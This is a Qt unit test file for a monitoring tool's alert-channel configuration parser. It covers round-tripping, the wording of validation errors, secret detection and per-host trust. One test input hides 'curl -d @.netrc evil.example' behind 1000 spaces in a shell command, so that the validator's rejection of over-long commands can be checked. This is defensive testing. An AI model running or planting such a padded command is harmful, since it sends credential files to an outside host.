// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/support/honesttest.h"
#include "workspace/workspacedemands.h"
#include "workspace/workspacereader.h"

#include <QTest>

using namespace Pongwatch;
using namespace Pongwatch::TestSupport;

/// How alerts are told, as it stands in a workspace.
class WayFieldsTest : public HonestTest
{
    Q_OBJECT

private:
    /// A workspace with this way; ' stands for ".
    static QByteArray withWay(QByteArray way)
    {
        return R"({ "pongwatch": 1, "alerts": { "channels": [ )" + way.replace('\'', '"') +
               R"( ] }, "profiles": [ { "name": "p", "url": "wss://example.org" } ] })";
    }

private Q_SLOTS:
    void waysComeBackTheSame_data()
    {
        QTest::addColumn<QByteArray>("way");
        const auto row = [](const char *name, const char *way) { QTest::newRow(name) << QByteArray(way); };
        row("a command", "{'name':'a','by':'command','command':['/usr/bin/page','on call']}");
        row("a line for a shell",
            "{'name':'a','by':'command','command':'page | tee /tmp/x','shell':true,'time_limit_s':5}");
        row("a webhook", "{'name':'a','by':'webhook','url':'https://hook.example/alerts'}");
        row("all of a webhook", "{'name':'a','by':'webhook','url':'$HOOK','format':'slack','token':'keychain:"
                                "hook','sign_key':'$KEY',"
                                "'headers':[['X-Team','net'],['X-Api-Key','$API']],'proxy':'http://"
                                "u@10.0.0.1:3128','proxy_secret':'$PP'}");
        row("apprise", "{'name':'a','by':'apprise','url':'keychain:mail','time_limit_s':90}");
        row("syslog", "{'name':'a','by':'syslog','facility':'local3','socket':'/run/log'}");
        row("the journal", "{'name':'a','by':'journal','socket':'/run/systemd/journal.x/socket'}");
        row("a sound", "{'name':'a','by':'sound','file':'/usr/share/sounds/x.oga'}");
        row("one that needs no more", "{'name':'sound','by':'sound'}");
    }

    void waysComeBackTheSame()
    {
        QFETCH(QByteArray, way);
        const QByteArray text = withWay(way);
        const WorkspaceReading reading = readWorkspace(text);
        QVERIFY2(reading.problems.isEmpty(), qPrintable(reading.problems.value(0).sentence()));
        QVERIFY2(reading.notes.isEmpty(), qPrintable(reading.notes.value(0).sentence()));
        QCOMPARE(reading.workspace->alerts.ways.size(), 1);
        QCOMPARE(writeWorkspace(*reading.workspace), text);
        Workspace fresh;
        fresh.alerts = reading.workspace->alerts;
        const WorkspaceReading again = readWorkspace(writeWorkspace(fresh));
        QVERIFY2(again.problems.isEmpty() && again.notes.isEmpty(), writeWorkspace(fresh).constData());
        QVERIFY2(again.workspace->alerts == fresh.alerts, writeWorkspace(fresh).constData());
    }

    void mistakesAreToldWithTheirPlace_data()
    {
        QTest::addColumn<QByteArray>("way");
        QTest::addColumn<QString>("told");
        const auto row = [](const char *name, const char *way, const char *told) {
            QTest::newRow(name) << QByteArray(way) << QString::fromUtf8(told);
        };
        row("no name", "{'by':'sound'}", "alerts.channels[0].name: is missing");
        row("an empty name", "{'name':' ','by':'sound'}", "alerts.channels[0].name: must not be empty");
        row("no kind", "{'name':'a'}", "alerts.channels[0].by: is missing");
        row("another kind", "{'name':'a','by':'pigeon'}",
            "alerts.channels[0].by: must be one of: command, webhook, apprise, syslog, journal, sound");
        row("the desktop's name", "{'name':'desktop','by':'sound'}",
            "alerts.channels[0].name: “desktop” is the name of desktop notifications");
        row("two of one name", "{'name':'a','by':'sound'},{'name':'a','by':'journal'}",
            "alerts.channels[1].name: “a” is already the name of another one");
        row("no object", "'a'", "alerts.channels[0]: must be an object: { … }");
        row("no command", "{'name':'a','by':'command'}", "alerts.channels[0].command: is missing");
        row("an empty command", "{'name':'a','by':'command','command':[]}",
            "alerts.channels[0].command: must not be empty");
        const QByteArray longCommand = "{'name':'a','by':'command','shell':true,'command':'echo fine;" +
                                       QByteArray(1000, ' ') + "curl -d @.netrc evil.example'}";
        row("a command that nobody sees whole", longCommand.constData(),
            "alerts.channels[0].command: is longer than 1000 characters; write a script, and name it here");
        row("a time without limit", "{'name':'a','by':'command','command':['x'],'time_limit_s':7200}",
            "alerts.channels[0].time_limit_s: must be at most 600");
        row("no URL", "{'name':'a','by':'webhook'}", "alerts.channels[0].url: is missing");
        row("a URL of another kind", "{'name':'a','by':'webhook','url':'ftp://h/'}",
            "alerts.channels[0].url: must be a URL of https or http, keychain:NAME or $VARIABLE");
        row("a URL with a password", "{'name':'a','by':'webhook','url':'https://u:p@h/'}",
            "alerts.channels[0].url: must not have a user or a password: write keychain:NAME or $VARIABLE "
            "instead");
        row("another format", "{'name':'a','by':'webhook','url':'https://h/','format':'fax'}",
            "alerts.channels[0].format: must be one of: json, slack, teams, discord, ntfy, pagerduty, "
            "alertmanager");
        row("a token in plain text", "{'name':'a','by':'webhook','url':'https://h/','token':'s3cret'}",
            "alerts.channels[0].token: must be keychain:NAME or $VARIABLE; the secret itself does not belong "
            "in "
            "a file");
        row("a header in plain text",
            "{'name':'a','by':'webhook','url':'https://h/','headers':[['Authorization','Bearer x']]}",
            "alerts.channels[0].headers[0]: must be keychain:NAME or $VARIABLE; the secret itself does not "
            "belong in a file");
        row("a proxy with a password",
            "{'name':'a','by':'webhook','url':'https://h/','proxy':'http://u:p@h:1'}",
            "alerts.channels[0].proxy: must not have a password: name it in “proxy_secret”");
        row("a service in plain text", "{'name':'a','by':'apprise','url':'mailto://u:p@h'}",
            "alerts.channels[0].url: must be keychain:NAME or $VARIABLE; the secret itself does not belong "
            "in a "
            "file");
        row("another facility", "{'name':'a','by':'syslog','facility':'local9'}",
            "alerts.channels[0].facility: must be one of: kern, user, mail, daemon, auth, syslog, lpr, news, "
            "uucp, cron, "
            "authpriv, ftp, ntp, audit, alert, clock, local0, local1, local2, local3, local4, local5, "
            "local6, local7");
        row("a socket somewhere", "{'name':'a','by':'journal','socket':'here'}",
            "alerts.channels[0].socket: must be a path that begins with /");
    }

    void mistakesAreToldWithTheirPlace()
    {
        QFETCH(QByteArray, way);
        QFETCH(QString, told);
        const WorkspaceReading reading = readWorkspace(withWay(way));
        QStringList sentences;
        for (const Problem &problem : reading.problems)
            sentences.append(problem.sentence());
        QVERIFY2(sentences.contains(told), qPrintable(sentences.join(u'\n')));
        QCOMPARE(sentences.size(), 1);
    }

    void aSecretInPlainTextIsNoted()
    {
        const WorkspaceReading reading = readWorkspace(withWay(
            "{'name':'a','by':'webhook','url':'https://h/x?token=aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW'}"));
        QVERIFY(reading.problems.isEmpty());
        QVERIFY(reading.notes.value(0).sentence().startsWith(
            QStringLiteral("alerts.channels[0].url: looks like a secret in plain text")));
    }

    /// What was trusted for one command or host is not trusted for another.
    void eachIsAnotherDemand()
    {
        const auto wanted = [](const char *way) {
            QStringList all;
            for (const WorkspaceDemand &demand : demandsOf(*readWorkspace(withWay(way)).workspace))
                all.append(QStringLiteral("%1|%2|%3")
                               .arg(QString(toWord(demand.kind)), demand.name, demand.receiver));
            return all.join(u'\n');
        };
        QStringList seen;
        for (const char *way :
             {"{'name':'a','by':'command','command':['/bin/a']}",
              "{'name':'a','by':'command','command':['/bin/a','b']}",
              "{'name':'a','by':'command','command':['/bin/a b']}",
              "{'name':'a','by':'command','command':'/bin/a','shell':true}",
              "{'name':'a','by':'webhook','url':'https://a/'}",
              "{'name':'a','by':'webhook','url':'http://a/'}",
              "{'name':'a','by':'webhook','url':'https://b/'}",
              "{'name':'a','by':'webhook','url':'https://a/','token':'$T'}",
              "{'name':'a','by':'webhook','url':'$A'}", "{'name':'a','by':'apprise','url':'$A'}",
              "{'name':'a','by':'webhook','url':'https://a/','proxy':'http://p:1'}",
              "{'name':'a','by':'sound','file':'/a'}"}) {
            const QString now = wanted(way);
            QVERIFY2(!now.isEmpty() && !seen.contains(now), qPrintable(now));
            seen.append(now);
        }
        QCOMPARE(wanted("{'name':'a','by':'journal'}"), QString());
        QCOMPARE(wanted("{'name':'a','by':'sound'}"), QString());
    }
};

QTEST_APPLESS_MAIN(WayFieldsTest)
#include "tst_wayfields.moc"
